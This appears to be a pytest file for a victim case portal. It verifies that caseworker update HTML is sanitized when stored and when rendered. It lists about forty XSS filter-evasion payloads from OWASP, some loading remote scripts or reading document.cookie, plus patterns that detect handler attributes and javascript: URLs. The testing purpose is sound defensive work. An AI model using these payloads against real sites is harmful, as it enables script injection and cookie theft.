"""Caseworker text is cut down to the allow-list (paragraphs, lists, bold, https links) before it
is stored and again when it is shown. Payloads from OWASP's XSS Filter Evasion Cheat Sheet,
checked in the stored HTML and on the victim's rendered case page."""
from __future__ import annotations

import re

import pytest
from bs4 import BeautifulSoup
from sqlalchemy import select

from portal.extensions import db
from portal.models import Update
from portal.security import ALLOWED_TAGS
from portal.services.case_file import updates
from tests.conftest import page

# From https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html,
# plus event handlers and styles on the allowed tags themselves.
PAYLOADS = [
    "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/"
    "onmouseover=1/+/[*/[]/+alert(42);//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114"
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    "&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;"
    "&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;\">entities</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72"
    "&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29\">hex entities</a>",
    "<a href=\"jav\tascript:alert('XSS');\">embedded tab</a>",
    "<a href=\"jav&#x09;ascript:alert('XSS');\">encoded tab</a>",
    "<a href=\"jav&#x0A;ascript:alert('XSS');\">encoded newline</a>",
    "<a href=\" &#14;  javascript:alert('XSS');\">spaces and meta characters</a>",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TR><TD>cell</TD></TR></TABLE>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">div</DIV>",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data link</a>",
    "<a href=\"javascript:alert('XSS')\">plain javascript link</a>",
    "<strong onclick=\"alert(1)\">bold with a handler</strong>",
    "<p style=\"x:expression(alert(1))\">paragraph with a style</p>",
    "<a href=\"http://example.com/\">a link that is not https</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>",
]

_HANDLER = re.compile(r"^on", re.IGNORECASE)
_BAD_URL = re.compile(r"^\s*(?:javascript|data|vbscript):", re.IGNORECASE)


def assert_safe_fragment(html: str, payload: str) -> None:
    soup = BeautifulSoup(html, "html.parser")
    for tag in soup.find_all(True):
        assert tag.name in ALLOWED_TAGS, (payload, tag.name)
        for name, value in tag.attrs.items():
            assert not _HANDLER.match(name), (payload, name)
            if tag.name == "a" and name == "href":
                assert value.startswith("https://"), (payload, value)
            else:
                assert tag.name == "a" and name == "rel", (payload, name)
    # Text that merely reads "javascript:" is harmless; no attribute may carry it.
    for tag in soup.find_all(True):
        assert not any("javascript" in str(v).lower() for v in tag.attrs.values()), payload
    assert "<script" not in html.lower()


def assert_safe_page(response, payload: str) -> None:
    soup = page(response)
    for script in soup.find_all("script"):
        assert script.get("nonce") or script.get("src", "").startswith("/static/"), payload
    for tag in soup.body.find_all(True):  # the head's own favicon is a data: URL
        for name, value in tag.attrs.items():
            assert not _HANDLER.match(name), (payload, tag.name, name)
            if name in ("href", "src", "action", "background", "data"):
                assert not _BAD_URL.match(str(value)), (payload, tag.name, value)
    # Inside each update, only the allow-list and the page's own frame of it (heading, date,
    # language wrapper; any form the page itself adds under an update is its own).
    articles = soup.select("article.portal-update")
    assert articles, payload
    frame = {"article", "h3", "div", "span"}
    for article in articles:
        for form in article.find_all("form"):
            form.decompose()
        for tag in article.find_all(True):
            assert tag.name in ALLOWED_TAGS | frame, (payload, tag.name)


@pytest.fixture
def victim_page(make, client, victim_auth):
    person = make.staff()
    victim = make.victim()
    case = make.case(victims=[victim], contact=person)
    victim_auth.sign_in(victim)
    return person, case


def test_there_are_at_least_twenty_payloads():
    assert len(PAYLOADS) >= 20


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_stripped_when_stored_and_when_shown(app, client, victim_page, payload):
    person, case = victim_page
    with app.test_request_context():
        updates.post(case, person, updates.Draft(
            event="general", body=f"<p>Your update.</p>{payload}<p>Call us.</p>"))
    stored = db.session.scalars(select(Update)).one()
    assert_safe_fragment(stored.body_html, payload)
    assert "Your update." in stored.body_html
    assert "<script" not in stored.body_text.lower()
    response = client.get(f"/cases/{case.id}")
    assert response.status_code == 200
    assert "Your update." in response.get_data(as_text=True)
    assert_safe_page(response, payload)


def test_html_that_got_into_the_database_unsanitised_is_cleaned_again_when_shown(
        client, victim_page):
    person, case = victim_page
    db.session.add(Update(case_id=case.id, author_id=person.id, event="general",
                          body_html="<p>Hello</p><script>alert(1)</script>"
                                    "<img src=x onerror=alert(2)>",
                          body_text="Hello"))
    db.session.commit()
    response = client.get(f"/cases/{case.id}")
    assert_safe_page(response, "stored unsanitised")
    assert "alert(1)" not in response.get_data(as_text=True)


def test_the_console_form_sanitises_too(client, make, staff_login):
    person = make.staff()
    case = make.case(contact=person, victims=[make.victim()])
    staff_login.sign_in_quickly(person)
    soup = page(client.get(f"/staff/cases/{case.id}/updates/new?event=general"))
    token = soup.find("input", {"name": "csrf_token"})["value"]
    data = {"csrf_token": token, "event": "general", "about": "", "language": "en",
            "send": "window", "body": "Hello <script>alert(1)</script><b onclick=x()>bold</b> "
                                      "<a href=\"javascript:alert(1)\">link</a>"}
    preview = page(client.post(f"/staff/cases/{case.id}/updates/new", data={**data, "check": 1}))
    data["previewed"] = preview.find("input", {"name": "previewed"})["value"]
    for item in preview.select(".portal-preview__item"):
        assert item.find("script") is None and "onclick" not in str(item)
    client.post(f"/staff/cases/{case.id}/updates/new", data={**data, "confirm": 1})
    stored = db.session.scalars(select(Update)).one()
    assert_safe_fragment(stored.body_html, "console form")
    assert "<b>bold</b>" in stored.body_html
